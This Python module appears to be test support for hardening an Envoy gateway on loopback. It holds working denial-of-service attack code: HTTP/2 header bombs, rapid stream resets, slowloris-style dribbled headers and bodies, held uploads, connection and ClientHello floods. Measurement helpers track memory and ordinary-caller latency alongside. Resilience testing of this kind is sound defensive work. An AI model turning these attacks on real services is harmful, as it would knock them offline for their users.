"""What strangers may try against a gateway on loopback, in small numbers, and what shows whether it bears it.

Each attack holds what it took until it is left, so that memory and ordinary callers can be looked at meanwhile.
"""

import contextlib
import http.client
import json
import secrets
import socket
import ssl
import statistics
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Self

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import psutil
from hpack import NeverIndexedHeaderTuple

MIB = 2**20
_LOCAL = "127.0.0.1"
_PATIENCE = 10.0


def tls(port: int, name: str, alpn: str = "http/1.1", timeout: float = _PATIENCE) -> ssl.SSLSocket:
    """A connection that trusts any certificate, as an attacker's would."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(socket.create_connection((_LOCAL, port), timeout), server_hostname=name)


class _Admin(http.client.HTTPConnection):
    def __init__(self, path: Path) -> None:
        super().__init__("envoy", timeout=_PATIENCE)
        self._path = str(path)

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(_PATIENCE)
        self.sock.connect(self._path)


def admin(path: Path, url: str) -> bytes:
    """What Envoy's admin interface answers."""
    with contextlib.closing(_Admin(path)) as connection:
        connection.request("GET", url)
        return connection.getresponse().read()


def allocated(path: Path) -> float:
    """MiB that Envoy's heap has in use."""
    return int(json.loads(admin(path, "/memory"))["allocated"]) / MIB


def resident(pid: int) -> float:
    """MiB that a process has in RAM."""
    return psutil.Process(pid).memory_info().rss / MIB


def stat(path: Path, name: str) -> int:
    """One counter or gauge of Envoy; 0 while it does not exist."""
    found = admin(path, f"/stats?format=json&filter=^{name}$")
    return next((each["value"] for each in json.loads(found)["stats"] if "value" in each), 0)


class Peak:
    """The most MiB that Envoy's heap had in use, and that its process had in RAM, while the block ran."""

    def __init__(self, path: Path, pid: int) -> None:
        self._path, self._pid = path, pid
        self._stop = threading.Event()
        self.before = self.most = self.resident = 0.0

    def __enter__(self) -> Self:
        self.before = self.most = allocated(self._path)
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    @property
    def grown(self) -> float:
        return self.most - self.before

    def _watch(self) -> None:
        while not self._stop.wait(0.05):
            self.resident = max(self.resident, resident(self._pid))
            with contextlib.suppress(OSError):
                self.most = max(self.most, allocated(self._path))


class Ordinary:
    """A caller with a good key who calls all the time, on one connection as long as that lasts."""

    def __init__(self, port: int, host: str, key: str, *, fresh: bool = False, pause: float = 0.02) -> None:
        self._port, self._host, self._fresh, self._pause = port, host, fresh, pause
        self._request = f"GET /v2 HTTP/1.1\r\nHost: {host}\r\nX-API-Key: {key}\r\n\r\n".encode()
        self._stop = threading.Event()
        self.seconds: list[float] = []
        self.failed: list[str] = []

    def __enter__(self) -> Self:
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join(2 * _PATIENCE)

    def __str__(self) -> str:
        return f"{len(self.seconds)} answered, {len(self.failed)} failed {sorted(set(self.failed))[:3]}"

    def ms(self, share: float) -> float:
        """A percentile of the times of the answered calls, connecting included."""
        return statistics.quantiles([*self.seconds, *self.seconds], n=1000)[int(share * 1000) - 1] * 1000

    def _run(self) -> None:
        connection: ssl.SSLSocket | None = None
        while not self._stop.wait(self._pause):
            start = time.monotonic()
            try:
                connection = connection or tls(self._port, self._host)
                connection.sendall(self._request)
                status, closing = _answer(connection)
                if status == 200:
                    self.seconds.append(time.monotonic() - start)
                else:
                    self.failed.append(f"status {status}")
            except OSError as error:
                self.failed.append(str(error) or type(error).__name__)
                closing = True
            if (closing or self._fresh) and connection:
                connection.close()
                connection = None
        if connection:
            connection.close()


def _answer(connection: ssl.SSLSocket) -> tuple[int, bool]:
    """The status, and whether the server closes the connection."""
    response = http.client.HTTPResponse(connection)
    response.begin()
    response.read()
    return response.status, response.will_close


# --- attacks


def _window_shut() -> h2.connection.H2Connection:
    """A client that lets the server send nothing, and believes in no limit of the server's."""
    config = h2.config.H2Configuration(client_side=True, header_encoding=None, validate_outbound_headers=False)
    client = h2.connection.H2Connection(config)
    codes = h2.settings.SettingCodes
    client.local_settings = h2.settings.Settings(
        client=True, initial_values={codes.INITIAL_WINDOW_SIZE: 0, codes.ENABLE_PUSH: 0}
    )
    client.initiate_connection()
    return client


class HeaderBomb:
    """Headers of `kib` KiB a stream, sent once and then referred to; no answer is ever taken.

    `renew` sends the streams again and again, also on new connections, until the block is left.
    """

    def __init__(
        self, port: int, host: str, *, connections: int, streams: int, kib: int, renew: bool = False, path: str = "/zz"
    ) -> None:
        self._port, self._host, self._kib, self._path = port, host, kib, path
        self._connections, self._streams, self._renew = connections, streams, renew
        self._open: list[tuple[ssl.SSLSocket, h2.connection.H2Connection]] = []
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self.sent = 0

    def __enter__(self) -> Self:
        self._round()
        if self._renew:
            self._thread = threading.Thread(target=self._again, daemon=True)
            self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        if self._thread:
            self._thread.join(2 * _PATIENCE)
        for connection, _ in self._open:
            connection.close()

    def _again(self) -> None:
        while not self._stop.wait(0.2):
            self._round()

    def _round(self) -> None:
        while len(self._open) < self._connections and not self._stop.is_set():
            try:
                connection = tls(self._port, self._host, "h2", timeout=2.0)
            except OSError:
                break
            self._open.append((connection, _window_shut()))
        self._open = [each for each in self._open if self._fill(*each)]

    def _fill(self, connection: ssl.SSLSocket, client: h2.connection.H2Connection) -> bool:
        """Whether the connection is still of use."""
        big = (b"x-a", b"a" * 3900)
        host = NeverIndexedHeaderTuple(b":authority", self._host.encode())
        path = NeverIndexedHeaderTuple(b":path", self._path.encode())
        headers = [(b":method", b"GET"), path, (b":scheme", b"https"), host, *[big] * (self._kib // 4)]
        try:
            for _ in range(self._streams):
                client.send_headers(client.get_next_available_stream_id(), headers, end_stream=True)
                data = client.data_to_send()
                self.sent += len(data)
                connection.sendall(data)
        except (OSError, h2.exceptions.ProtocolError):
            connection.close()
            return False
        return True


class HeldUploads:
    """Calls with a good key that send `kib` KiB of a larger body to a sleeping endpoint, a connection each."""

    def __init__(self, port: int, host: str, key: str, *, calls: int, kib: int) -> None:
        self._port, self._host, self._key, self._calls, self._kib = port, host, key, calls, kib
        self._open: list[ssl.SSLSocket] = []

    def __enter__(self) -> Self:
        head = (
            f"POST /v2/models/{self._host.partition('.')[0]}/infer HTTP/1.1\r\nHost: {self._host}\r\n"
            f"X-API-Key: {self._key}\r\nContent-Length: {64 * MIB}\r\n\r\n"
        )
        for _ in range(self._calls):
            connection = tls(self._port, self._host)
            connection.sendall(head.encode())
            connection.settimeout(0.2)
            # It stops when Envoy reads no more, which is the point.
            with contextlib.suppress(OSError):
                for _ in range(self._kib // 16):
                    connection.sendall(b"x" * (16 << 10))
            self._open.append(connection)
        return self

    def __exit__(self, *_: object) -> None:
        for connection in self._open:
            connection.close()


class Again:
    """Threads that do something again and again until the block is left, whatever the gateway does about it.

    done: how often it came to its end.
    """

    def __init__(self, act: Callable[[], object], threads: int) -> None:
        self._act = act
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(threads)]
        self._lock = threading.Lock()
        self.done = 0

    def __enter__(self) -> Self:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(2 * _PATIENCE)

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                self._act()
            except (OSError, http.client.HTTPException, h2.exceptions.ProtocolError):
                # It was turned away, so it does not try again at once.
                self._stop.wait(0.05)
                continue
            with self._lock:
                self.done += 1


def calls(port: int, host: str, *headers: str, path: str = "/v2", count: int = 50) -> None:
    """Equal calls, one after the other on one connection of HTTP/1.1, until the gateway closes it."""
    request = "\r\n".join([f"GET {path} HTTP/1.1", f"host: {host}", *headers, "", ""]).encode("latin-1")
    with tls(port, host) as connection:
        for _ in range(count):
            connection.sendall(request)
            if _answer(connection)[1]:
                return


def streams(port: int, host: str, *headers: tuple[bytes, bytes], count: int = 90) -> None:
    """Equal calls at once on one connection of HTTP/2; their headers are sent once and then referred to."""
    with tls(port, host, "h2") as connection:
        client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        client.initiate_connection()
        for _ in range(count):
            client.send_headers(client.get_next_available_stream_id(), _get(host, headers), end_stream=True)
        connection.sendall(client.data_to_send())
        ended = 0
        while ended < count and (data := connection.recv(1 << 16)):
            events = client.receive_data(data)
            if any(isinstance(each, h2.events.ConnectionTerminated) for each in events):
                return
            over = (h2.events.StreamEnded, h2.events.StreamReset)
            ended += sum(isinstance(each, over) for each in events)
            connection.sendall(client.data_to_send())


def resets(port: int, host: str, *headers: tuple[bytes, bytes], count: int = 2000) -> None:
    """Calls of HTTP/2 that are given up as soon as they are sent, until the gateway closes the connection."""
    with tls(port, host, "h2") as connection:
        client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        client.initiate_connection()
        # Which is the end of it, too, if the gateway closes it while more is sent.
        with contextlib.suppress(ConnectionError, ssl.SSLError):
            for _ in range(count // 50):
                for _ in range(50):
                    stream = client.get_next_available_stream_id()
                    client.send_headers(stream, _get(host, headers), end_stream=True)
                    client.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                connection.sendall(client.data_to_send())
                if _is_over(connection, client):
                    return


def _is_over(connection: ssl.SSLSocket, client: h2.connection.H2Connection) -> bool:
    """Whether the gateway has ended the connection. What it has said so far is taken."""
    connection.settimeout(0.001)
    try:
        data = connection.recv(1 << 16)
        return not data or any(isinstance(each, h2.events.ConnectionTerminated) for each in client.receive_data(data))
    except TimeoutError:
        return False
    finally:
        connection.settimeout(_PATIENCE)


def _get(host: str, headers: Sequence[tuple[bytes, bytes]]) -> list[tuple[bytes, bytes]]:
    path, name = NeverIndexedHeaderTuple(b":path", b"/v2"), NeverIndexedHeaderTuple(b":authority", host.encode())
    return [(b":method", b"GET"), path, (b":scheme", b"https"), name, *headers]


class Dribble:
    """Connections that send this much of a call and then a byte every `pause` seconds, begun anew when they are closed.

    begun: how many there were in all.
    """

    def __init__(self, port: int, host: str, first: bytes, *, connections: int, pause: float) -> None:
        self._port, self._host, self._first = port, host, first
        self._connections, self._pause = connections, pause
        self._open: list[ssl.SSLSocket] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.begun = 0

    def __enter__(self) -> Self:
        self._fill()
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join(2 * _PATIENCE)
        for connection in self._open:
            connection.close()

    def _run(self) -> None:
        while not self._stop.wait(self._pause):
            self._open = [each for each in self._open if self._says_a_byte(each)]
            self._fill()

    def _fill(self) -> None:
        while len(self._open) < self._connections and not self._stop.is_set():
            try:
                connection = tls(self._port, self._host, timeout=2.0)
                connection.sendall(self._first)
            except OSError:
                return
            self.begun += 1
            self._open.append(connection)

    def _says_a_byte(self, connection: ssl.SSLSocket) -> bool:
        """Whether the connection is still open."""
        with contextlib.suppress(OSError):
            if _is_open(connection):
                connection.settimeout(2.0)
                connection.sendall(b"a")
                return True
        connection.close()
        return False


@contextlib.contextmanager
def flood_of_connections(port: int, count: int, name: str | None) -> Iterator[list[socket.socket]]:
    """Connections that send nothing: without any TLS, or with a handshake for this server name."""
    taken: list[socket.socket] = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            plain = name is None
            taken.append(socket.create_connection((_LOCAL, port), 2.0) if plain else tls(port, str(name), timeout=2.0))
    try:
        yield taken
    finally:
        for each in taken:
            each.close()


def still_open(connections: list[socket.socket]) -> int:
    """How many of them the gateway has not closed."""
    return sum(map(_is_open, connections))


def _is_open(connection: socket.socket) -> bool:
    connection.settimeout(0.0)
    try:
        while connection.recv(4096):
            pass
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False
    return False


def spellings(name: str, count: int) -> Iterator[str]:
    """`count` ways to write a host name with upper-case letters."""
    letters = [index for index, letter in enumerate(name) if letter.isalpha()]
    for number in range(1, count + 1):
        upper = {index for bit, index in enumerate(letters) if number >> bit & 1}
        yield "".join(letter.upper() if index in upper else letter for index, letter in enumerate(name))


def _hello(name: str) -> bytes:
    """A ClientHello for this server name."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    handshake = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return outgoing.read()


def hello_and_gone(port: int, name: str) -> bool:
    """Send a ClientHello for this name and hang up. Returns whether anything was answered."""
    with socket.create_connection((_LOCAL, port), 2.0) as connection:
        connection.sendall(_hello(name))
        connection.settimeout(0.2)
        try:
            return connection.recv(1) != b""
        except OSError:
            return False


@contextlib.contextmanager
def hello_and_no_more(port: int, count: int, name: str) -> Iterator[list[socket.socket]]:
    """Connections whose handshake stops after the ClientHello: the gateway has answered, and waits for the rest."""
    hello = _hello(name)
    with contextlib.ExitStack() as stack:
        taken = []
        for _ in range(count):
            connection = stack.enter_context(socket.create_connection((_LOCAL, port), _PATIENCE))
            connection.sendall(hello)
            assert connection.recv(1), "the gateway answers a ClientHello"
            taken.append(connection)
        yield taken


def names_of_nobody(port: int) -> Callable[[], object]:
    """Send a ClientHello for another server name each time. They are lower case, so that each gets as far as TLS."""
    return lambda: hello_and_gone(port, f"{secrets.token_hex(8)}.search.localhost")


def slow_headers(port: int, host: str, connections: int, pause: float = 1.0) -> Dribble:
    """Headers that never end."""
    first = f"GET /v2 HTTP/1.1\r\nhost: {host}\r\nx-anything: ".encode()
    return Dribble(port, host, first, connections=connections, pause=pause)


def slow_bodies(port: int, host: str, key: str, connections: int, pause: float = 1.0) -> Dribble:
    """Bodies of 4,000 bytes, with a good key: without one a call is refused at once."""
    head = f"POST /v2/models/{host.partition('.')[0]}/infer HTTP/1.1\r\nhost: {host}\r\nx-api-key: {key}\r\n"
    return Dribble(port, host, f"{head}content-length: 4000\r\n\r\n".encode(), connections=connections, pause=pause)
